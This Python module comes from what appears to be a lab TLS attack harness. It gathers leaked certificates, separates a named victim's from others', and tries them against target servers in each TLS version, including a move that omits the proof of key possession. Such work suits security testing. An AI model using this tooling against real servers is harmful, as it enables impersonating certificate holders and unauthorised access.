"""The haul: certificates that came by another leak than the wire, tried at every door once they are all there."""

import asyncio
from collections.abc import Iterable
from dataclasses import dataclass, replace
from pathlib import Path

from attacker.attempts import Plan, Target, Tries, common_name, is_self_signed
from attacker.collected import Sight, Stolen
from attacker.errors import AttackerError
from attacker.moves.make import Loot
from lab.catalogue.leaks import FROM_CA, SELF_SIGNED, Leak
from lab.catalogue.moves import find_move
from lab.events.log import Reporter
from lab.events.types import Trouble
from lab.tls.versions import version_name

MAX_CERTIFICATES = 1000


@dataclass(frozen=True)
class Door:
    """A server to try, and which sort of certificate it takes, FROM_CA or SELF_SIGNED: what the bank's website says."""

    address: tuple[str, int]
    name: str
    takes: str


@dataclass(frozen=True)
class _Item:
    loot: Loot
    seen_at: str


class Haul:
    """Takes in what a leak gives, and tries it at the doors: every planned move with the victim's certificates.

    Others' certificates, which some leaks give as well, are tried once a door and version, without a proof.
    """

    def __init__(
        self, reporter: Reporter, folder: Path, leak: Leak, plan: Plan, doors: Iterable[Door], victim: str
    ) -> None:
        self._reporter = reporter
        self._stolen = Stolen(reporter, folder, leak.id, leak.how)
        self._tries = Tries(reporter, leak.id, plan)
        self._plan = plan
        self._doors = tuple(door for door in doors if door.takes in leak.certificates)
        self._victim = victim
        self._of_victim: dict[tuple[str, str], _Item] = {}
        """By sort, and by the version in which it was seen, empty where it was none."""
        self._of_others: dict[bytes, _Item] = {}
        self._complete, self._complete_in_every_version = asyncio.Event(), asyncio.Event()

    def take(self, loot: Loot, sight: Sight) -> None:
        """Takes in a certificate, and whatever came with it; one that cannot be read is reported and left."""
        certificate = loot.chain[0]
        if any(certificate == bundle.chain[0] for bundle in self._plan.own):
            return
        try:
            self._stolen.report(certificate, sight)
            name, sort = common_name(certificate), SELF_SIGNED if is_self_signed(certificate) else FROM_CA
        except ValueError as error:
            self._reporter.report(Trouble(f"{sight.server}: no readable certificate: {error}"))
            return
        self._stolen.keep(certificate)
        item = _Item(loot, sight.server)
        if name == self._victim:
            self._of_victim.setdefault((sort, sight.tls), item)
        elif len(self._of_others) < MAX_CERTIFICATES:
            self._of_others.setdefault(certificate, item)
        sorts = {door.takes for door in self._doors}
        if {sort for sort, _ in self._of_victim} >= sorts:
            self._complete.set()
        if self._of_victim.keys() >= {
            (sort, version_name(version)) for sort in sorts for version in self._plan.versions
        }:
            self._complete_in_every_version.set()

    async def complete(self, *, in_every_version: bool = False) -> None:
        """Waits until there is something of the victim's for every door, or even for every door in every version."""
        await (self._complete_in_every_version if in_every_version else self._complete).wait()

    async def use(self) -> None:
        """Tries everything at every door."""
        await asyncio.gather(*(self._use_at(door) for door in self._doors))

    async def _use_at(self, door: Door) -> None:
        omit_proof = find_move("omit-proof")
        assert omit_proof
        for version in self._plan.versions:
            if item := self._best(door.takes, version):
                target = Target(door.address, door.name, item.seen_at)
                own = self._plan.own_like(item.loot.chain[0])
                await self._tries.everything(target, version, replace(item.loot, own=own))
            for certificate, item in self._of_others.items():
                if is_self_signed(certificate) == (door.takes == SELF_SIGNED):
                    target = Target(door.address, door.name, item.seen_at)
                    await self._tries.one(target, version, item.loot, omit_proof)

    def _best(self, sort: str, version: int) -> _Item | None:
        """What there is of the victim's, rather seen in the same version: a proof is made for one."""
        of_sort = {tls: item for (found, tls), item in self._of_victim.items() if found == sort}
        return of_sort.get(version_name(version)) or next(iter(of_sort.values()), None)


def parse_door(text: str) -> Door:
    """Reads `[self-signed=]HOST:PORT`; AttackerError for anything else."""
    sort, equals, address = text.rpartition("=")
    host, colon, port = address.rpartition(":")
    if not (host and colon and port.isascii() and port.isdigit()) or (equals and sort != "self-signed"):
        raise AttackerError(f"--door {text}: give HOST:PORT, or self-signed=HOST:PORT")
    return Door((host.strip("[]"), int(port)), host.strip("[]"), SELF_SIGNED if equals else FROM_CA)
